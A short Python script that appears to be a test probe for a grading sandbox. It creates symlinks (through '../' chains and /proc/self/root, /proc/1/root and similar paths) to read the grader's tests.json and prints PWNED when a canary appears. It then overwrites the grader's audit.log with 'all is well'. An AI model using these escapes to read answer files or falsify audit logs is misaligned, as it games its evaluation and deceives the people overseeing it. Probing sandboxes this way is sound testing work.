"""Reach the grader's files by links of every kind that start in the work directory.

Shows: PWNED on stdout, or the log is changed.
"""

import os
from contextlib import suppress

target = "@VICTIM@/grader/tests.json"
links = {
    "plain": target,
    "climbing": "../" * 40 + target.lstrip("/"),
    "over the root": "/proc/self/root" + target,
    "over the thread": "/proc/thread-self/root" + target,
    "over process 1": "/proc/1/root" + target,
    "over the folder": "/proc/self/cwd/" + "../" * 40 + target.lstrip("/"),
}
for name, path in links.items():
    with suppress(OSError):
        os.symlink(path, name)
        with open(name) as file:
            if "CANARY" in file.read():
                print("PWNED", name)
os.symlink("@VICTIM@/grader/audit.log", "log")
with suppress(OSError), open("log", "w") as file:
    file.write("all is well")
